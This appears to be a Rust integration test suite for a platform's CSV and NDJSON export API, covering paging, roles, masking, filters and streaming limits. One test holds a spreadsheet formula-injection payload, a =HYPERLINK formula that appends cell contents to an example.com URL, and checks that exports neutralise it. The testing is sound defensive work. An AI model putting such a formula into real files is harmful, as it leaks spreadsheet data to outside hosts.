//! Whole lists to take along: what the graph gives page by page, no more and no less, as CSV and as NDJSON.

use std::collections::BTreeSet;

use harness::{Client, Gehoord, STROOMDAM, UWI, Value, json};
use reqwest::Response;

const LISTS: [&str; 5] = ["signals", "followUps", "proposals", "sessions", "councils"];
/// Signals that somebody sent who knows spreadsheets.
const FORMULA: &str = "=HYPERLINK(\"https://example.com/?x=\"&A1,\"klik\")";

async fn get(app: &Gehoord, client: &Client<'_>, address: &str) -> Response {
    let mut request = app.http.get(app.url(address));
    if let Some(token) = client.token() {
        request = request.bearer_auth(token);
    }
    request.send().await.expect("an answer")
}

fn address(organisation: &str, list: &str, form: &str, filter: &Value) -> String {
    let filter = filter.to_string();
    let escaped: String = filter.bytes().map(|byte| format!("%{byte:02X}")).collect();
    format!("/{organisation}/v1/exports/{list}.{form}?filter={escaped}")
}

/// The objects of an export.
async fn lines(app: &Gehoord, client: &Client<'_>, organisation: &str, list: &str, filter: &Value) -> Vec<Value> {
    let answer = get(app, client, &address(organisation, list, "ndjson", filter)).await;
    let (status, text) = (answer.status(), answer.text().await.expect("a text"));
    assert_eq!(status, 200, "{list}: {text}");
    text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

/// The rows of an export, each as its columns and cells.
async fn rows(app: &Gehoord, client: &Client<'_>, organisation: &str, list: &str) -> Vec<Vec<(String, String)>> {
    let answer = get(app, client, &address(organisation, list, "csv", &json!({}))).await;
    assert_eq!(answer.status(), 200);
    let text = answer.text().await.expect("a text");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let names: Vec<String> = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    let record = |record: csv::Result<csv::StringRecord>| {
        let record = record.expect("a record of as many fields");
        names.iter().cloned().zip(record.iter().map(str::to_owned)).collect()
    };
    reader.records().map(record).collect()
}

/// The ids of a list as the graph gives them, page by page.
async fn paged(client: &Client<'_>, list: &str, filter: &Value) -> Vec<String> {
    let kind = format!("{}{}Filter", list[..1].to_uppercase(), &list[1..list.len() - 1]);
    let document = format!(
        "query($f: {kind}, $a: String) {{ list: {list}(filter: $f, first: 100, after: $a) {{
            nodes {{ id }} pageInfo {{ hasNextPage endCursor }} }} }}"
    );
    let (mut ids, mut after) = (Vec::new(), Value::Null);
    loop {
        let answer = client.send(&document, json!({ "f": filter, "a": after })).await;
        let nodes = answer.at("/list/nodes").as_array().expect("nodes").clone();
        ids.extend(nodes.iter().map(|node| node["id"].as_str().expect("an id").to_owned()));
        if answer.at("/list/pageInfo/hasNextPage") != true {
            return ids;
        }
        after = answer.at("/list/pageInfo/endCursor").clone();
    }
}

fn ids(lines: &[Value]) -> Vec<String> {
    lines.iter().map(|line| line["id"].as_str().unwrap_or_else(|| panic!("no id: {line}")).to_owned()).collect()
}

#[tokio::test]
async fn each_role_is_given_what_the_graph_gives_them_once_and_in_order() {
    let app = Gehoord::start().await;
    for who in ["nobody", "client", "member", "handler", "analyst", "admin"] {
        let client = app.as_(who).await;
        for list in LISTS {
            let expected = paged(&client, list, &Value::Null).await;
            let found = ids(&lines(&app, &client, UWI, list, &json!({})).await);
            assert_eq!(found, expected, "{who} {list}");
            assert_eq!(found.iter().collect::<BTreeSet<_>>().len(), found.len(), "{who} {list}: each once");
        }
    }
    let nobody = app.nobody();
    assert!(lines(&app, &nobody, UWI, "signals", &json!({})).await.is_empty());
    assert!(!lines(&app, &nobody, UWI, "councils", &json!({})).await.is_empty());
    assert!(lines(&app, &app.as_("analyst").await, UWI, "signals", &json!({})).await.len() > 100, "more than a page");
}

#[tokio::test]
async fn thousands_of_signals_come_whole_both_ways() {
    let app = Gehoord::start().await;
    let analyst = app.at(STROOMDAM, "analyst").await;
    let expected = paged(&analyst, "signals", &Value::Null).await;
    assert!(expected.len() > 2_000, "{}", expected.len());
    let lines = lines(&app, &analyst, STROOMDAM, "signals", &json!({})).await;
    assert_eq!(ids(&lines), expected);
    let rows = rows(&app, &analyst, STROOMDAM, "signals").await;
    assert_eq!(rows.len(), lines.len());
    for (row, line) in rows.iter().zip(&lines) {
        for (name, cell) in row {
            let told = match &line[name] {
                Value::Null => String::new(),
                Value::String(text) if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) => format!("'{text}"),
                Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            assert_eq!(*cell, told, "{name}");
        }
    }
    let first = &lines[0];
    let text = first["receivedAt"].as_str().expect("a moment");
    chrono::DateTime::parse_from_rfc3339(text).unwrap_or_else(|error| panic!("{text}: {error}"));
    assert!(first["id"].as_str().is_some_and(|id| id.starts_with("signal_")), "{first}");
    assert!(first["topicId"].as_str().is_some_and(|id| id.starts_with("topic_")), "{first}");
}

#[tokio::test]
async fn it_is_a_file_to_keep_and_in_no_cache() {
    let app = Gehoord::start().await;
    let analyst = app.as_("analyst").await;
    for (form, media, begin) in [
        ("csv", "text/csv; charset=utf-8; header=present", "id,kind,title,text,masked,status,"),
        ("ndjson", "application/x-ndjson; charset=utf-8", "{\"id\":\"proposal_"),
    ] {
        let answer = get(&app, &analyst, &format!("/v1/exports/proposals.{form}")).await;
        let header = |name: &str| answer.headers().get(name).map(|value| value.to_str().expect("a text").to_owned());
        assert_eq!(header("content-type").as_deref(), Some(media));
        let name = format!("attachment; filename=\"proposals-2026-09-08.{form}\"");
        assert_eq!(header("content-disposition"), Some(name));
        assert_eq!(header("cache-control").as_deref(), Some("no-store"));
        assert_eq!(header("x-content-type-options").as_deref(), Some("nosniff"));
        let text = answer.text().await.expect("a text");
        assert!(text.starts_with(begin), "{text}");
    }
    let empty = get(&app, &app.nobody(), "/v1/exports/signals.csv").await;
    assert_eq!(empty.text().await.expect("a text").lines().count(), 1, "the names of the columns alone");
}

#[tokio::test]
async fn what_somebody_wrote_is_no_formula_on_the_desk_of_who_opens_it() {
    const SUBMIT: &str =
        "mutation($i: SubmitSignalInput!) { submitSignal(input: $i) { signal { id } userErrors { message } } }";
    let app = Gehoord::start().await;
    for text in [FORMULA, "@SUM(1)", "-1 ster", "+ fijne mensen", "\t=1+1 wacht", "gewoon, met \"aanhaling\"\nen regel"]
    {
        let input = json!({ "kind": "STORY", "channel": "APP", "text": text });
        app.query("client", SUBMIT, json!({ "i": input })).await;
    }
    let client = app.as_("client").await;
    let texts: BTreeSet<String> = rows(&app, &client, UWI, "signals")
        .await
        .into_iter()
        .filter_map(|row| row.into_iter().find(|(name, _)| name == "text").map(|(_, cell)| cell))
        .collect();
    for disarmed in
        [&format!("'{FORMULA}"), "'@SUM(1)", "'-1 ster", "'+ fijne mensen", "gewoon, met \"aanhaling\"\nen regel"]
    {
        assert!(texts.contains(disarmed), "{disarmed} in {texts:?}");
    }
    assert!(!texts.iter().any(|text| text.starts_with(['=', '+', '-', '@', '\t'])), "{texts:?}");
    // For programs it is as it was written.
    let lines = lines(&app, &client, UWI, "signals", &json!({})).await;
    assert!(lines.iter().any(|line| line["text"] == FORMULA));
}

#[tokio::test]
async fn what_was_masked_stays_masked_and_who_is_nameless_stays_so() {
    let app = Gehoord::start().await;
    for who in ["member", "handler", "analyst", "admin"] {
        let client = app.as_(who).await;
        let asked = client
            .send("{ signals(first: 100) { nodes { id text masked place { address } handler { name } source externalId } } }", json!({}))
            .await;
        let lines = lines(&app, &client, UWI, "signals", &json!({})).await;
        let nodes = asked.at("/signals/nodes").as_array().expect("nodes");
        for (node, line) in nodes.iter().zip(&lines) {
            for (of_graph, of_export) in [
                (&node["text"], &line["text"]),
                (&node["masked"], &line["masked"]),
                (node.pointer("/place/address").unwrap_or(&Value::Null), &line["address"]),
                (node.pointer("/handler/name").unwrap_or(&Value::Null), &line["handler"]),
                (&node["externalId"], &line["externalId"]),
            ] {
                assert_eq!(of_graph, of_export, "{who} {line}");
            }
        }
    }
    let masked = lines(&app, &app.as_("analyst").await, UWI, "signals", &json!({})).await;
    assert!(masked.iter().any(|line| line["text"].as_str().is_some_and(|text| text.contains('['))), "some are masked");
}

#[tokio::test]
async fn a_filter_is_that_of_the_list() {
    let app = Gehoord::start().await;
    let analyst = app.as_("analyst").await;
    for (list, filter) in [
        ("signals", json!({ "kind": ["COMPLAINT"], "open": true })),
        ("signals", json!({ "receivedFrom": "2026-08-01T00:00:00Z" })),
        ("followUps", json!({ "overdue": true })),
        ("proposals", json!({ "status": "ACCEPTED" })),
        ("sessions", json!({ "upcoming": true })),
        ("councils", json!({ "kind": "DISTRICT" })),
    ] {
        let (all, expected) = (paged(&analyst, list, &Value::Null).await, paged(&analyst, list, &filter).await);
        assert_eq!(ids(&lines(&app, &analyst, UWI, list, &filter).await), expected, "{list} {filter}");
        assert!(expected.len() < all.len(), "{list} {filter} leaves something out");
    }
}

#[tokio::test]
async fn what_is_not_right_is_told_before_anything_is_sent() {
    let app = Gehoord::start().await;
    let analyst = app.as_("analyst").await;
    for (path, status) in [
        ("/v1/exports/signals.csv?filter=x", 400),
        ("/v1/exports/signals.csv?filter=%5B%5D", 400),
        ("/v1/exports/signals.csv?filter=%7B%22kind%22%3A%22COMPLAIN%22%7D", 400),
        ("/v1/exports/signals.ndjson?filter=%7B%22sort%22%3A1%7D", 400),
        ("/v1/exports/signals.csv?filter=%7B%22topicId%22%3A%22x%22%7D", 400),
        ("/v1/exports/proposals.csv?filter=%7B%22councilSlug%22%3A%22%5Cu0000%22%7D", 400),
        ("/v1/exports/signals.csv?first=3", 400),
        ("/v1/exports/accounts.csv", 404),
        ("/v1/exports/signals.xlsx", 404),
        ("/nergens/v1/exports/signals.csv", 404),
    ] {
        let answer = get(&app, &analyst, path).await;
        assert_eq!(answer.status(), status, "{path}");
        if status == 400 {
            let problem: Value = serde_json::from_str(&answer.text().await.expect("a text")).expect("JSON");
            assert!(problem["detail"].as_str().is_some_and(|said| said.len() > 20), "{path}: {problem}");
        }
    }
    let stale = app.nobody().with_token("abc");
    assert_eq!(get(&app, &stale, "/v1/exports/councils.csv").await.status(), 401);
    let posted = app.http.post(app.url("/v1/exports/councils.csv")).send().await.expect("an answer");
    assert_eq!(posted.status(), 405);
    // A token of one organisation is worth nothing at another.
    assert_eq!(get(&app, &analyst, "/stroomdam/v1/exports/councils.csv").await.status(), 401);
}

#[tokio::test]
async fn who_is_blocked_on_the_way_gets_no_more_and_can_tell() {
    let app = Gehoord::start().await;
    for form in ["ndjson", "csv"] {
        let analyst = app.at(STROOMDAM, "analyst").await;
        let mut answer = get(&app, &analyst, &format!("/stroomdam/v1/exports/signals.{form}")).await;
        assert_eq!(answer.status(), 200);
        let first = answer.chunk().await.expect("a piece").expect("a first piece");
        app.sql(STROOMDAM, "UPDATE account SET status = 'BLOCKED' WHERE email = 'analyst@demo.example'").await;
        let mut text = first.to_vec();
        let end = loop {
            match answer.chunk().await {
                Ok(Some(piece)) => text.extend(piece),
                Ok(None) => break Ok(()),
                Err(error) => break Err(error),
            }
        };
        let text = String::from_utf8_lossy(&text).into_owned();
        let last = text.lines().last().unwrap_or_default();
        if form == "ndjson" {
            assert!(end.is_ok());
            let last: Value = serde_json::from_str(last).expect("a last line");
            assert_eq!(last["error"]["status"], 401, "{last}");
        } else {
            assert!(end.is_err(), "a body that was broken off: {last}");
        }
        assert!(text.lines().count() < 4_000);
        app.sql(STROOMDAM, "UPDATE account SET status = 'ACTIVE' WHERE email = 'analyst@demo.example'").await;
    }
}

#[tokio::test]
async fn as_many_run_as_there_are_places_and_who_hangs_up_gives_one_back() {
    let app = Gehoord::start().await;
    let analyst = app.at(STROOMDAM, "analyst").await;
    let path = "/stroomdam/v1/exports/signals.ndjson";
    let mut running = Vec::new();
    for _ in 0..4 {
        let answer = get(&app, &analyst, path).await;
        assert_eq!(answer.status(), 200);
        running.push(answer);
    }
    let full = get(&app, &analyst, path).await;
    assert_eq!((full.status().as_u16(), full.headers().contains_key("retry-after")), (503, true));
    // None of them holds anything of the database while nobody reads.
    assert_eq!(analyst.send("{ viewer { account { id } } }", json!({})).await.status, 200);
    running.pop();
    let patience = std::time::Instant::now();
    while get(&app, &analyst, path).await.status() != 200 {
        assert!(patience.elapsed().as_secs() < 20, "a place that nobody uses is given back");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn a_connected_system_takes_along_what_it_pushed() {
    const MAKE: &str =
        "mutation { createIntegration(input: { name: \"Register\", scopes: [IMPORT_SIGNALS] }) { secret } }";
    let app = Gehoord::start().await;
    let secret = app.query("admin", MAKE, json!({})).await.text("/createIntegration/secret").to_owned();
    let system = app.nobody().with_token(&secret);
    let signal = |id: &str| {
        json!({ "externalId": id, "kind": "QUESTION", "channel": "PHONE", "text": "Waar blijft mijn brief?",
                "receivedAt": "2026-09-07T10:00:00Z" })
    };
    let input = json!({ "source": "register", "signals": [signal("a"), signal("b")] });
    assert_eq!(system.run("IntakeSignals", json!({ "input": input })).await.at("/importSignals/created"), 2);
    let expected = paged(&system, "signals", &Value::Null).await;
    let lines = lines(&app, &system, UWI, "signals", &json!({})).await;
    assert_eq!((ids(&lines), lines.len()), (expected, 2));
    let own: BTreeSet<_> = lines.iter().map(|line| line["externalId"].as_str().expect("an id")).collect();
    assert_eq!(own, ["a", "b"].into_iter().collect());
    let picture = "/v1/insight/trend.svg?from=2026-06-01&until=2026-09-01";
    assert_eq!(get(&app, &system, picture).await.status(), 404, "figures are not for systems");
}
